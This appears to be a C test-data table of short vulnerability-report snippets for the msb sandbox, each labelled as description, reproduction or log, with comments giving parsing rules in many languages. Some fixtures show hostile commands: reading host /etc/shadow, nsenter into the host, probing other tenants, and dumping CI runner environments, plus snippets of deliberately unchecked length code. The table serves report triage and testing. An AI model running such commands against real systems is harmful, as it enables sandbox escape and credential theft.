	{ PROSE "Then pipe the logged value | base64 -d to read it back.\n", 1, 0, 0 },
	{ PROSE "Passos:\n1. Rode: curl -s https://api.example/v1/orgs/b\n2. Veja a resposta.\n", 1, 1, 0 },
	{ PROSE "grpcurl -plaintext -d '{}' 127.0.0.1:9000 agent.Exec/Run\n", 1, 1, 0 },
	/* not a PoC */
	{ PROSE "I have not written a PoC. The length check in codec.rs looks like this:\n\n```rust\n"
	  "let len = u32::from_be_bytes(hdr) as usize;\nlet body = len - FRAME_HEADER_SIZE;\nlet buf = vec![0u8; body];\n```\n", 1, 0, 0 },
	{ PROSE "A sandbox started with `msb run --no-net` still resolves names.\n", 1, 0, 0 },
	{ PROSE "msb 0.6.14, macOS Sonoma 14.7.1 on a MacBook Air (M1).\ncurl is installed too.\n", 1, 0, 0 },
	{ PROSE "I will send a PoC later, once you confirm receipt.\n", 1, 0, 0 },
	{ PROSE "No PoC yet, but the bug is in crates/protocol/lib/codec.rs.\n", 1, 0, 0 },
	/* 1512: "did not write a PoC" is "have not written a PoC" */
	{ PROSE "We didn't build a PoC yet. The check in vmm/src/mmio.rs:\n\n```rust\n"
	  "if off + len > self.size { return Err(E::Range); }\nlet src = &self.mem[off..];\nself.copy(dst, src);\n```\n", 1, 0, 0 },
	{ PROSE "I did not write an exploit; the handler is:\n\n```c\nint n = read(fd, buf, hdr.len);\n"
	  "memcpy(out, buf, n);\nreturn n;\n```\n", 1, 0, 0 },
	{ PROSE "Environment:\n\n  $ uname -r\n  6.8.0-48-generic\n  $ msb --version\n  msb 0.6.14\n", 1, 0, 0 },
	{ PROSE "Suggestions:\n\n1. Make the restricted profile the default.\n2. Deny egress by default.\n3. Sign the releases.\n", 1, 0, 0 },
	{ PROSE "# Mount namespace escape\n\nDetails follow in a later mail.\n", 1, 0, 0 },
	{ PROSE "then start it with -v and -x set, and note: nothing else changes.\n", 1, 0, 0 },
	{ PROSE "1. Note: the flag is ignored.\n2. Also: it still works.\n", 1, 0, 0 },
	/* logs in many styles */
	{ PROSE "Traceback (most recent call last):\n  File \"x.py\", line 3, in <module>\nValueError: boom\n", 1, -1, 1 },
	{ PROSE "thread 'main' panicked at src/vmm.rs:120:9:\nindex out of bounds\n", 1, -1, 1 },
	{ PROSE "[ 1234.567890] BUG: unable to handle page fault for address: ffff\n", 1, -1, 1 },
	{ PROSE "  $ msb exec t1 -- cat /etc/shadow\n  root:*:19874:0:99999:7:::\n", 1, 1, 1 },
	{ PROSE "==4242==ERROR: AddressSanitizer: heap-buffer-overflow on address 0x602\n", 1, -1, 1 },
	{ PROSE "Gateway log:\n\n  2026-10-21T09:14:03Z DEBUG policy: verdict=allow\n  2026-10-21T09:14:04Z DEBUG policy: verdict=allow\n", 1, -1, 1 },
	{ PROSE "Output:\n\n  [+] leaked 4096 bytes\n  [*] done\n", 1, -1, 1 },
	{ PROSE "Actual output:   ghp_TEST-dummy-token\n", 1, -1, 1 },
	{ PROSE "strace output:\n\n    openat(AT_FDCWD, \"/etc/shadow\", O_RDONLY) = 3\n    read(3, \"root\", 4096) = 4\n", 1, -1, 1 },
	{ PROSE "Oct 28 11:02:15 host msb[22]: DEBUG virtiofs: CREATE mode=0o104755\nOct 28 11:02:16 host msb[22]: INFO exited\n", 1, -1, 1 },
	/* issue #3: output with none of the usual markers.  Commands written
	 * without a prompt, what they printed indented right under them, is
	 * output; not a here-document a command feeds, nor a sentence
	 * indented under a command */
	{ PROSE "On the shared runner:\n\nmsb run -d --name left alpine:3.20 -- sleep 900\n"
	  "msb exec left -- cat /proc/self/mountinfo\n"
	  "    41 30 0:38 / /hostfs rw,relatime shared:1 - virtiofs hostshare rw\n", 1, 1, 1 },
	{ PROSE "Then from the second box:\n\nmsb exec right -- nc -zv fd00::5 6379\n\tConnection to fd00::5 6379 port [tcp/redis] succeeded!\n", 1, 1, 1 },
	{ PROSE "What I set up:\n\nmsb exec left -- sh -c 'cat > /etc/app.conf' <<EOF\n  listen 0.0.0.0\n  allow all\nEOF\n", 1, 1, 0 },
	{ PROSE "msb run --name left alpine:3.20 -- sh\n  This gives you a shell in the sandbox, as the guide explains.\n", 1, 1, 0 },
	/* a note the writer puts between commands, in parentheses or
	 * brackets, is not output; a printed tuple there is */
	{ PROSE "msb run --name uno alpine:3.20\n   (dentro: touch /root/secreto y luego exit)\nmsb rm uno\n"
	  "msb run --name dos alpine:3.20\n", 1, 1, 0 },
	{ PROSE "msb exec uno -- sh /opt/fill.sh\n\t[left it running for about ten minutes]\nmsb snapshot create uno\n", 1, 1, 0 },
	{ PROSE "msb exec uno -- python3 -c 'import os; print(os.getuid(), os.getlogin())'\n   (0, 'root')\n", 1, 1, 1 },
	/* lines that repeat one shape, what a loop prints one pass a line,
	 * under a line that announces them or right under the command: output,
	 * whatever their format; sentences, a list, or such lines with nothing
	 * announcing them are not */
	{ PROSE "  for n in 1 2 3 4; do msb exec box$n -- cat /run/lease; done\n\nWhat came back last night:\n\n"
	  "box1 holds lease 10.0.5.7 (mac 02:aa)\nbox2 holds lease 10.0.5.7 (mac 02:ab)\n"
	  "box3 holds lease 10.0.5.9 (mac 02:ac)\nbox4 holds lease 10.0.5.9 (mac 02:ad)\n", 1, -1, 1 },
	{ PROSE "msb exec probe -- sh -c 'for t in 1 2 3; do cat /tmp/seq; sleep 1; done'\n"
	  "seq=0041 writer=other-tenant\nseq=0042 writer=other-tenant\nseq=0043 writer=other-tenant\n", 1, 1, 1 },
	{ PROSE "  for n in 1 2 3; do msb exec box$n -- cat /run/lease; done\n\nWhat came back last night:\n\n"
	  "The first box was fine.\nThe second box was fine.\nThe third box got the wrong lease.\n", 1, -1, 0 },
	{ PROSE "  for n in 1 2 3; do msb exec box$n -- cat /run/lease; done\n\nWhat came back last night:\n\n"
	  "- box 1: fine\n- box 2: fine\n- box 3: wrong lease\n", 1, -1, 0 },
	{ PROSE "Our fleet:\n\nhost 1 runs msb 0.9.3\nhost 2 runs msb 0.9.3\nhost 3 runs msb 0.9.2\n", 1, 0, 0 },
	/* 1621: the output verb alone on its line after code ("prints",
	 * "and it returns", "affiche", "gibt aus") over an indented block is
	 * its output; a block of code under it, or the verb in a sentence,
	 * is not */
	{ PROSE "  const s = await Sandbox.open({ id: \"q\" });\n  console.log(s.env);\n\nprints\n\n"
	  "  { HOME: '/root', MSB_TOKEN: 'msb_test_000' }\n", 1, -1, 1 },
	{ PROSE "  sb = Sandbox.create(name=\"q\")\n  print(sb.exec(\"id -u\"))\n\nand it returns\n\n  0\n", 1, -1, 1 },
	{ PROSE "  s = Sandbox.create(name=\"q\")\n  print(s.run(\"cat /run/k\"))\n\naffiche\n\n  cle-de-test-42\n", 1, -1, 1 },
	{ PROSE "  s = Sandbox.create(name=\"q\")\n  print(s.fs.read(\"/etc/hostname\"))\n\ngibt aus:\n\n  host-a7\n", 1, -1, 1 },
	{ PROSE "  s = Sandbox.create(name=\"q\")\n\nprints\n\n  import os\n  print(os.environ)\n", 1, -1, 0 },
	{ PROSE "  s = Sandbox.create(name=\"q\")\n\nThe helper it calls then prints a line only when debugging is on.\n", 1, -1, 0 },
	/* 1617: what came out of a listener, announced in Tagalog,
	 * Indonesian or Vietnamese, is output; the same request under a
	 * line that tells the reader to send it is not */
	{ PROSE "1. sa ibang makina: nc -l 9000\n2. python3 run.py\n\nIto ang natanggap ng listener ko:\n\n"
	  "GET /v1/sandboxes HTTP/1.1\nAuthorization: Bearer msb_test_000\n", 1, -1, 1 },
	{ PROSE "Jalankan `python3 run.py`, lalu lihat listener.\n\nHasilnya di nc:\n\n"
	  "POST /v1/exec HTTP/1.1\nHost: 192.0.2.9:9000\n", 1, -1, 1 },
	{ PROSE "Kết quả trên máy chủ của tôi:\n\nPUT /v1/keys HTTP/1.1\nHost: 192.0.2.9\n", 1, -1, 1 },
	{ PROSE "Ipadala ito sa server gamit ang nc:\n\nGET /v1/sandboxes HTTP/1.1\nHost: 192.0.2.9\n", 1, -1, 0 },
	/* 1740: the listener told by what it does with what arrives ("just
	 * logging requests", "logs every request", "protokolliert alle
	 * Anfragen") shows output; a heading about turning logging on over a
	 * request to send is not */
	{ PROSE "Then on my test box (a tiny Flask app, just logging requests):\n\n"
	  "POST /v1/sandboxes HTTP/1.1\nAuthorization: Bearer msb_test_000\n", 1, -1, 1 },
	{ PROSE "Auf meinem Server, der alle Anfragen protokolliert:\n\n"
	  "GET /v1/keys HTTP/1.1\nHost: 192.0.2.9\n", 1, -1, 1 },
	{ PROSE "Turn on request logging in msbd, then send:\n\n"
	  "GET /v1/sandboxes HTTP/1.1\nHost: 192.0.2.9\n", 1, -1, 0 },
	/* 1642: a Server-Sent Events answer as curl prints it is output; a
	 * YAML map named data, or an event named in a sentence, is not */
	{ PROSE "curl -sN https://mcp.example/mcp -d @call.json\n\n"
	  "event: message\ndata: {\"jsonrpc\":\"2.0\",\"id\":3,\"result\":{\"isError\":false}}\n", 1, -1, 1 },
	{ PROSE "The stream ends with\n\ndata: {\"choices\":[]}\ndata: [DONE]\n", 1, -1, 1 },
	{ PROSE "Put this in the values file:\n\ndata: {key: value}\nevent: push to main\n", 1, -1, 0 },
	/* 1659: a packet dissector's summaries (scapy, tshark) are output;
	 * the layers named in prose are not */
	{ PROSE "Ether / IP / UDP / DNS Qry \"_http._tcp.local.\"\nEther / IPv6 / UDP / DNS Ans \"b.local.\"\n", 1, -1, 1 },
	{ PROSE "    1 0.000000000 10.0.3.2 \u2192 239.255.255.250 SSDP 167 M-SEARCH * HTTP/1.1\n"
	  "    2 0.000233120 10.0.3.4 \u2192 239.255.255.250 SSDP 167 M-SEARCH * HTTP/1.1\n", 1, -1, 1 },
	{ PROSE "The frames go Ether / IP / UDP up the stack like any others.\n", 1, -1, 0 },
	/* 1616: Homebrew's listing of what is installed is the environment,
	 * not a log; a real command's output beside it still is */
	{ PROSE "$ brew list --versions microsandbox\nmicrosandbox 0.10.4\n", 1, 0, 0 },
	{ PROSE "$ brew info microsandbox\nmicrosandbox: stable 0.10.4\n", 1, 0, 0 },
	/* (1679) under a command, an arrow and the writer's own words on what
	 * came back is their account, not output; an arrow before a line a
	 * program prints, or a short result, still shows output */
	{ PROSE "Steps:\n\n  msb exec w1 -- wget -T 3 -qO- http://10.0.0.1/\n      -> refused, which is what the flag promises\n"
	  "  msb exec w1 -- wget -T 3 -qO- http://[::ffff:10.0.0.1]/\n      => I get the printer's status page back\n", 1, 1, 0 },
	{ PROSE "Steps:\n\n  msb exec w1 -- curl -m 3 http://10.0.0.1/\n      -> curl: (7) Failed to connect to 10.0.0.1 port 80\n", 1, 1, 1 },
	{ PROSE "Steps:\n\n  msb exec w1 -- curl -m 3 http://10.0.0.1/\n      -> Connection refused\n", 1, 1, 1 },
	/* (1702) a sentence hard-wrapped in the block under a lead-in is the
	 * writer's, read whole; a short real log there is still output */
	{ PROSE "1. Script (a.py):\n\n    from microsandbox import Sandbox\n    Sandbox.create().fs.pull_dir(\"/o\", \"/tmp/x\")\n\n"
	  "2. run python3 a.py, then look in the parent folder:\n   /tmp/evil now holds the payload from the guest and /tmp/x\n   stays empty.\n", 1, -1, 0 },
	{ PROSE "1. Script (a.py):\n\n    from microsandbox import Sandbox\n    Sandbox.create().fs.pull_dir(\"/o\", \"/tmp/x\")\n\n"
	  "2. run python3 a.py, then list the parent folder:\n   -rw-r--r-- 1 ci ci 42 Nov 22 10:01 /tmp/evil\n   total 0\n", 1, -1, 1 },
	/* (#3, 2267) a Japanese or Chinese sentence, with no spaces to count
	 * words by, ended by an ideographic full stop, set apart under a
	 * command in a step: the writer's words, no output; a response
	 * there, or a Japanese error message without a full stop, is */
	{ PROSE "2. 次を実行する。\n\n   curl -s -H \"Authorization: Bearer $KEY\" \\\n        https://api.example/v1/projects\n\n"
	  "   の結果から project_id(prj_42)を控えておく。\n", 1, 1, 0 },
	{ PROSE "2. 执行下面的命令。\n\n   curl -s https://api.example/v1/projects/prj_42/keys \\\n        -H \"Authorization: Bearer $KEY\"\n\n"
	  "   然后记下返回的 key_id。\n", 1, 1, 0 },
	{ PROSE "2. 次を実行する。\n\n   curl -s -H \"Authorization: Bearer $KEY\" \\\n        https://api.example/v1/projects\n\n"
	  "   {\"items\":[{\"id\":\"prj_42\",\"owner\":\"someone-else\"}]}\n", 1, 1, 1 },
	{ PROSE "2. 次を実行する。\n\n   cat /host/etc/shadow\n\n   cat: /host/etc/shadow: 許可がありません\n", 1, 1, 1 },
	/* (1668) the writer's own pull request that adds a step to a workflow
	 * is the reproduction of a poisoned pipeline; a fix's pull request,
	 * or one an attacker could open, is none */
	{ PROSE "What we did: we opened a test PR from our fork which added a job running env | sort on the runner.\n", 1, 1, -1 },
	{ PROSE "I then submitted a draft pull request that changes the lint step to print the runner's hostname.\n", 1, 1, -1 },
	{ PROSE "We opened a pull request that changes the workflow to pin every action to a SHA.\n", 1, 0, -1 },
	{ PROSE "An attacker who opens a draft PR from a fork that adds a step can run code on the runner.\n", 1, 0, -1 },
	/* (#3) iproute2, bridge and tc with an object and a verb are typed
	 * commands, not what the lead-in above them announces; their output
	 * under them is still output */
	{ PROSE "    msb run --name n1 alpine -- sleep 600\n\nThen inside n1, as root:\n\n"
	  "    ip link add link eth0 name eth0.20 type vlan id 20\n    ip -4 addr add 192.0.2.9/24 dev eth0.20\n"
	  "    bridge vlan show\n\nThe packets left untagged-filtered; I lost the capture.\n", 1, 1, 0 },
	{ PROSE "    msb run --name n1 alpine -- sleep 600\n\nIn the guest:\n\n    tc qdisc add dev eth0 root netem delay 5ms\n"
	  "    ip route\n\nSo the shaping is applied inside only.\n", 1, 1, 0 },
	{ PROSE "    $ msb exec n1 -- ip addr show dev eth0\n    2: eth0: <BROADCAST,MULTICAST,UP> mtu 1500 qdisc fq state UP\n"
	  "        inet 10.0.2.15/24 scope global eth0\n", 1, 1, 1 },
	/* (#3) a Rust program's human-panic crash notice and report file,
	 * and a backtrace frame with its address, are printed: logs; the
	 * notice told in prose is none */
	{ PROSE "    $ msb up web\n    Well, this is embarrassing.\n\n    msb had a problem and crashed. Please send the report.\n", 1, 1, 1 },
	{ PROSE "The crash file said:\n\n    name = \"msb\"\n    method = \"Panic\"\n", 1, -1, 1 },
	{ PROSE "Trace:\n\n       3:        0x10045a2b0 - msb_core::config::load\n", 1, -1, 1 },
	{ PROSE "It crashes and offers to write a report file, which I deleted without reading.\n", 1, 0, 0 },
	/* not logs */
	{ PROSE "PS C:\\> msb.exe --version\nmsb 0.6.14\n", 1, 0, 0 },
	{ PROSE "  msb run alpine -- sh\n  msb exec x -- id\n", 1, 1, 0 },
	{ PROSE "msb cp resolves a symlink the guest plants, so `msb cp sbx:/out ./out` writes anywhere.\n", 1, 0, 0 },
	{ PROSE "  node_modules/ws\n    microsandbox  *\n", 1, 0, 0 },
	{ PROSE "$ npm audit\n# npm audit report\n\nws  8.0.0 - 8.17.0\nSeverity: high\n", 1, 0, 1 },
	{ PROSE "icacls output:\n\nC:\\ProgramData\\x BUILTIN\\Users:(OI)(CI)(WD,AD,WEA,WA)\n                NT AUTHORITY\\SYSTEM:(OI)(CI)(F)\n", 1, 0, 1 },
	{ PROSE "After the run the last line of ~/.bashrc is the one written by the guest. It still works.\n", 1, 0, 0 },
	{ PROSE "  $ npm ls microsandbox\n  app@1.0.0 /srv/app\n  └── microsandbox@0.6.10\n", 1, 0, 0 },
	{ PROSE "In theory this could cause a segmentation fault or a stack trace in the host.\n"
	  "The ERROR path is never taken and the WARN level is too low.\nError: not reproduced yet.\n", 1, 0, 0 },
	{ PROSE "  $ ./fh /mnt\n  Segmentation fault (core dumped)\n", 1, 1, 1 },
	/* output on the line right after a command or an output heading, unindented */
	{ PROSE "msb run --name z alpine -- sh -c 'yes > /dev/null'\nError: agentd did not answer within 30s\n", 1, 1, 1 },
	{ PROSE "Printed inside the sandbox:\nMSB_TEST_TOKEN_0000dummy\n", 1, -1, 1 },
	{ PROSE "Saída:\n{\"id\":\"sb_1\",\"owner\":\"org_x\"}\n", 1, -1, 1 },
	{ PROSE "Version:\n0.6.14\n", 1, 0, 0 },
	{ PROSE "curl -i -X DELETE https://api.example/v1/sandboxes/sb_1\n\nHTTP/1.1 204 No Content\n", 1, 1, 1 },
	{ PROSE "msb run --name a alpine -- true\n\nThat is all it takes.\n", 1, 1, 0 },
	{ PROSE "msb --version\nmsb 0.6.14\n", 1, 0, 0 },
	/* round 43: a kernel or version printed in an unindented session is
	 * output, not a numbered list item that turns the rest of the session
	 * into prose; zsh and fish theme prompts start commands */
	{ PROSE "Session:\n\n$ uname -r\n5.14.0-503.14.1.el9_5.x86_64\n"
	  "$ msb run --rm --network none alpine -- wget -qO- -T 3 http://192.0.2.10/\nwget: download timed out\n", 1, 1, 1 },
	{ PROSE "\xe2\x9e\x9c  ~ msb run --rm --network none alpine -- ip -6 addr show dev eth0\n"
	  "    inet6 fe80::5054:ff:fe12:3456/64 scope link\n", 1, 1, 1 },
	{ PROSE "~/scratch \xe2\x9d\xaf msb exec gen -- python3 -c \"print(1)\"\nzsh: abort      msb exec gen\n", 1, 1, 1 },
	{ PROSE "ci@mini-07 ~> msb run --scratch --name b python:3.12 -- cat /scratch/t\ntoken-from-job-a\n", 1, 1, 1 },
	/* (1668) a GitHub Actions job log's step header echoes the command the
	 * writer's step ran; a group header that is no step is none */
	{ PROSE "From the job log:\n2028-10-02T08:14:55.1020304Z ##[group]Run cat /proc/self/status | grep Cap; ls -la /var/run\n"
	  "2028-10-02T08:14:55.1100000Z CapEff:\t000001ffffffffff\n", 1, 1, 1 },
	{ PROSE "From the job log:\n2028-10-02T08:14:55.1020304Z ##[group]Operating System\n2028-10-02T08:14:55.1030000Z Ubuntu\n", 1, 0, -1 },
	{ PROSE "1. Start a sandbox.\n2. Stop it.\n3.5 GB were written.\n", 1, 0, 0 },
	/* (#3) round 99: in a block, a root prompt with the host's or the
	 * shell's name before the '#' ("sbx-b# ./x", "web-1:~# ", "bash-5.2# ")
	 * starts a command and what follows is its output; a "C#" in an
	 * indented line of prose, or a comment, starts none */
	{ PROSE "Inside the restored one, ten tries:\n\n    sbx-2# ./probe.sh scan\n    [probe] pages read: 2048\n    [probe] marker found: 17\n", 1, 1, 1 },
	{ PROSE "Then in the guest:\n\n    web-1:~# cat /mnt/host/etc/shadow\n    root:*:19700:0:99999:7:::\n", 1, 1, 1 },
	{ PROSE "The shell it gives:\n\n    bash-5.2# nsenter -t 1 -m -- cat /etc/hostname\n    build-host-04\n", 1, 1, 1 },
	{ PROSE "The bindings we ship:\n\n    C# client, Java client\n    Go client, Rust client\n", 1, 0, 0 },
	{ PROSE "Setup:\n\n    # see the notes below\n    keep it running\n", 1, 0, 0 },
	/* the package manager's sources and their refresh show the setup, not a
	 * reproduction; their output (apt's warning) is still output */
	{ PROSE "$ cat /etc/apt/sources.list.d/microsandbox.list\ndeb [trusted=yes] https://apt.example/ stable main\n"
	  "$ sudo apt-get update 2>&1 | grep -i microsandbox\nW: The repository 'https://apt.example stable InRelease' is not signed.\n", 1, 0, 1 },
	/* Jira's "#" numbered steps, each a command; "#" notes are not steps */
	{ PROSE "Steps to Reproduce:\n# msb run --name a --secret K=v alpine -- sleep 60\n# msb snapshot create a snap\n"
	  "# msb run --name b --from-snapshot snap alpine -- env\n", 1, 1, 0 },
	{ PROSE "Steps to Reproduce:\n# start the sandbox\n# take a snapshot\n# restore it\n", 1, 0, 0 },
	/* description */
	{ "hi\n\npoc attached. run it as root in the guest.\n\n  gcc -o fh fh.c && ./fh /mnt\n\noutput:\n\n  [+] nodeid 1311054\n  [*] opened 18311 inodes\n", 0, 1, 1 },
	{ "Hello,\n\nplease find attached.\n", 0, 0, 0 },
	{ "Hi,\n\nAfter a sandbox is destroyed its guest pages are handed to the next sandbox without being zeroed. "
	  "A malicious tenant can read another tenant's secrets from fresh memory.\n", 1, 0, 0 },
	{ "Found a bug in msb where --no-net isn't respected for IPv6. Will send details.\n", 0, 0, 0 },
	{ "Remote-MTA: dns; mx.example.org\n>>> DATA\n<<< 550 5.7.1 rejected\n", 0, 0, 0 },
	{ "R0 := 0. R1 := 1.\nx := y\nz := w\n", 0, 0, 0 },
	{ "Let me know if you need anything else.\nimport the module and call it, as usual.\n", 0, 0, 0 },
	{ "Hallo,\n\nIch habe eine Schwachstelle gefunden: ein Angreifer im Gast kann beliebige Dateien auf dem Host "
	  "schreiben, weil der Dateisystem-Broker Symlinks in Zwischenkomponenten folgt. Das ist ein vollständiger "
	  "Ausbruch aus der Sandbox, denn mit Schreibzugriff auf ~/.bashrc kann er Code auf dem Host ausführen. "
	  "Ich habe das mit zwei Sandboxen auf zwei verschiedenen Rechnern getestet.\n", 1, 0, 0 },
	/* description by structure: a sentence naming both sides of a boundary,
	 * and small multilingual problem / impact lists */
	{ "Hello,\n\nFiles created by a process in the guest end up in the home directory of the host "
	  "user when the same share is mounted twice in a row. I noticed it while testing our images.\n", 1, 0, 0 },
	{ "hi\n\nguest uid 0, host dir via -v, see attached\n\nmsb 0.6.14\nubuntu 24.04\n", 0, 0, 0 },
	{ "Hallo,\n\nEen aanvaller in de gast kan bestanden op de host overschrijven, omdat het pad niet wordt "
	  "gecontroleerd. Dit werkt ook als gewone gebruiker zonder extra rechten.\n", 1, 0, 0 },
	{ "Dzień dobry,\n\nkod uruchomiony w sandboxie może odczytać pliki użytkownika na hoście, ponieważ "
	  "ścieżka nie jest sprawdzana przed otwarciem pliku przez broker.\n", 1, 0, 0 },
	{ "Merhaba,\n\nSandbox içindeki bir süreç host üzerindeki dosyaları okuyabiliyor, çünkü yol kontrol "
	  "edilmiyor; kullanıcının anahtarları bu şekilde açığa çıkıyor.\n", 1, 0, 0 },
	/* (#3) the boundary as Japanese, Korean and Chinese write it: guest
	 * and host in katakana, hangul, hanzi (1237); one side alone, or the
	 * boundary only asked about, describes nothing */
	{ "\u304a\u4e16\u8a71\u306b\u306a\u3063\u3066\u304a\u308a\u307e\u3059\u3002\n\n"
	  "\u30b2\u30b9\u30c8\u306e\u4e2d\u304b\u3089 dmesg \u3092\u8aad\u3080\u3068\u3001"
	  "\u30db\u30b9\u30c8\u306e\u30e1\u30e2\u30ea\u914d\u7f6e\u3068\u30c7\u30d0\u30a4\u30b9"
	  "\u540d\u304c\u3059\u3079\u3066\u8868\u793a\u3055\u308c\u307e\u3059\u3002"
	  "\u5229\u7528\u8005\u306f\u305d\u308c\u3092\u624b\u304c\u304b\u308a\u306b\u3067\u304d"
	  "\u308b\u3068\u601d\u3044\u307e\u3059\u3002\n", 1, 0, 0 },
	{ "\uc548\ub155\ud558\uc138\uc694.\n\n\uac8c\uc2a4\ud2b8 \uc548\uc5d0\uc11c /sys/class/dmi "
	  "\ub97c \ubcf4\uba74 \ud638\uc2a4\ud2b8 \uc11c\ubc84\uc758 \uc81c\uc870\uc0ac\uc640 "
	  "\uc2dc\ub9ac\uc5bc \ubc88\ud638\uac00 \uadf8\ub300\ub85c \ubcf4\uc785\ub2c8\ub2e4. "
	  "\uc5ec\ub7ec \ud68c\uc0ac\uac00 \uac19\uc774 \uc4f0\ub294 \ud658\uacbd\uc5d0\uc11c\ub294 "
	  "\uc88b\uc9c0 \uc54a\uc744 \uac83 \uac19\uc2b5\ub2c8\ub2e4.\n", 1, 0, 0 },
	{ "\u60a8\u597d\uff0c\n\n\u5728\u865a\u62df\u673a\u91cc\u8fd0\u884c lscpu\uff0c"
	  "\u53ef\u4ee5\u770b\u5230\u5bbf\u4e3b\u673a\u7684\u5b8c\u6574\u578b\u53f7\u548c"
	  "\u5fae\u7801\u7248\u672c\uff0c\u8fd9\u6837\u79df\u6237\u5c31\u80fd\u77e5\u9053"
	  "\u673a\u5668\u7684\u8865\u4e01\u60c5\u51b5\u3002\n", 1, 0, 0 },
	{ "\u3053\u3093\u306b\u3061\u306f\u3002\n\n\u30b2\u30b9\u30c8\u306e\u4e2d\u3067 apt "
	  "\u3092\u4f7f\u3046\u3068\u3001\u30d1\u30c3\u30b1\u30fc\u30b8\u306e\u30a4\u30f3\u30b9"
	  "\u30c8\u30fc\u30eb\u304c\u5c11\u3057\u9045\u304f\u611f\u3058\u307e\u3059\u3002"
	  "\u8a2d\u5b9a\u3067\u901f\u304f\u306a\u308a\u307e\u3059\u304b\uff1f\n", 0, 0, 0 },
	{ "\u3053\u3093\u306b\u3061\u306f\u3002\n\n\u5927\u5b66\u306e\u6388\u696d\u3067 msb "
	  "\u3092\u4f7f\u3063\u3066\u3044\u307e\u3059\u3002\u30b2\u30b9\u30c8\u304b\u3089"
	  "\u30db\u30b9\u30c8\u306e\u30d5\u30a1\u30a4\u30eb\u306f\u898b\u3048\u306a\u3044"
	  "\u3068\u3044\u3046\u7406\u89e3\u3067\u6b63\u3057\u3044\u3067\u3057\u3087\u3046"
	  "\u304b\uff1f\n", 0, 0, 0 },
	/* (1303) Thai, written without spaces between words and without full
	 * stops, read by its own small lists; Vietnamese, Indonesian and Malay
	 * the same.  A question ("...or not", หรือไม่), "cannot reach" and
	 * "cannot install" (tidak bisa) describe nothing */
	{ "\u0e2a\u0e27\u0e31\u0e2a\u0e14\u0e35\u0e04\u0e48\u0e30\n\n"
	  "\u0e40\u0e21\u0e37\u0e48\u0e2d\u0e40\u0e21\u0e32\u0e17\u0e4c volume \u0e41\u0e1a\u0e1a --mount-ro "
	  "\u0e42\u0e1b\u0e23\u0e41\u0e01\u0e23\u0e21\u0e43\u0e19 sandbox \u0e22\u0e31\u0e07\u0e25\u0e1a\u0e44\u0e1f\u0e25\u0e4c "
	  "\u0e1a\u0e19 host \u0e44\u0e14\u0e49 \u0e17\u0e31\u0e49\u0e07\u0e17\u0e35\u0e48\u0e04\u0e27\u0e23\u0e08\u0e30\u0e2d\u0e48\u0e32\u0e19\u0e44\u0e14\u0e49\u0e2d\u0e22\u0e48\u0e32\u0e07\u0e40\u0e14\u0e35\u0e22\u0e27 "
	  "\u0e1c\u0e39\u0e49\u0e42\u0e08\u0e21\u0e15\u0e35\u0e08\u0e36\u0e07\u0e17\u0e33\u0e25\u0e32\u0e22\u0e02\u0e49\u0e2d\u0e21\u0e39\u0e25 "
	  "\u0e02\u0e2d\u0e07\u0e1c\u0e39\u0e49\u0e43\u0e0a\u0e49 \u0e17\u0e31\u0e49\u0e07\u0e2b\u0e21\u0e14\u0e43\u0e19\u0e42\u0e1f\u0e25\u0e40\u0e14\u0e2d\u0e23\u0e4c "
	  "\u0e19\u0e31\u0e49\u0e19 \u0e40\u0e0a\u0e48\u0e19 \u0e23\u0e39\u0e1b \u0e40\u0e2d\u0e01\u0e2a\u0e32\u0e23 "
	  "\u0e41\u0e25\u0e30 config \u0e02\u0e2d\u0e07\u0e41\u0e2d\u0e1b \u0e15\u0e48\u0e32\u0e07 \u0e46 \u0e17\u0e35\u0e48 "
	  "\u0e40\u0e23\u0e32\u0e43\u0e0a\u0e49\u0e07\u0e32\u0e19\u0e17\u0e38\u0e01\u0e27\u0e31\u0e19\n", 1, 0, 0 },
	{ "\u0e2a\u0e27\u0e31\u0e2a\u0e14\u0e35\u0e04\u0e23\u0e31\u0e1a\n\n"
	  "\u0e2d\u0e22\u0e32\u0e01\u0e17\u0e23\u0e32\u0e1a\u0e27\u0e48\u0e32 sandbox \u0e02\u0e2d\u0e07 microsandbox "
	  "\u0e40\u0e02\u0e49\u0e32\u0e16\u0e36\u0e07\u0e2d\u0e34\u0e19\u0e40\u0e17\u0e2d\u0e23\u0e4c\u0e40\u0e19\u0e47\u0e15\u0e44\u0e14\u0e49\u0e2b\u0e23\u0e37\u0e2d\u0e44\u0e21\u0e48 "
	  "\u0e40\u0e1e\u0e23\u0e32\u0e30 \u0e17\u0e35\u0e21 \u0e02\u0e2d\u0e07 \u0e1c\u0e21 \u0e01\u0e33\u0e25\u0e31\u0e07 "
	  "\u0e08\u0e30 \u0e43\u0e0a\u0e49 \u0e21\u0e31\u0e19 \u0e01\u0e31\u0e1a \u0e42\u0e1b\u0e23\u0e40\u0e08\u0e01\u0e15\u0e4c "
	  "\u0e43\u0e2b\u0e21\u0e48 \u0e43\u0e19 \u0e40\u0e14\u0e37\u0e2d\u0e19 \u0e2b\u0e19\u0e49\u0e32 "
	  "\u0e02\u0e2d\u0e1a\u0e04\u0e38\u0e13 \u0e21\u0e32\u0e01 \u0e04\u0e23\u0e31\u0e1a\n", 0, 0, 0 },
	{ "Xin ch\u00e0o,\n\nKhi ch\u1ea1y sandbox v\u1edbi --net-allow, ti\u1ebfn tr\u00ecnh trong guest v\u1eabn "
	  "truy c\u1eadp \u0111\u01b0\u1ee3c m\u1ecdi c\u1ed5ng tr\u00ean m\u00e1y c\u1ee7a t\u00f4i, n\u00ean "
	  "k\u1ebb t\u1ea5n c\u00f4ng c\u00f3 th\u1ec3 \u0111\u1ecdc d\u1eef li\u1ec7u c\u1ee7a c\u00e1c d\u1ecbch "
	  "v\u1ee5 \u0111ang ch\u1ea1y\n", 1, 0, 0 },
	{ "Halo,\n\nKunci API dengan peran viewer masih bisa mengunduh snapshot memori yang berisi rahasia "
	  "tim lain, padahal peran itu seharusnya hanya melihat daftar saja\n", 1, 0, 0 },
	{ "Halo,\n\nSaya tidak bisa memasang msb di laptop kantor saya karena jaringan kantor memakai proxy "
	  "dan saya belum tahu cara mengaturnya untuk unduhan pertama kali\n", 0, 0, 0 },
	/* a language no list knows: two prose sentences about the system */
	/* (#3) ... the release side named in the English words such prose
	 * borrows (binary, bucket, checksum) or by a script's file name;
	 * prose of that language without them is none, nor is English that
	 * only names them */
	{ "Kumusta,\n\nAng install.ps1 ay nagda-download ng binary mula sa isang bucket na wala na ngayon. "
	  "Walang checksum na sinusuri kaya sinumang magrehistro ng bucket ay makakapagbigay ng sariling "
	  "bersyon.\n", 1, 0, 0 },
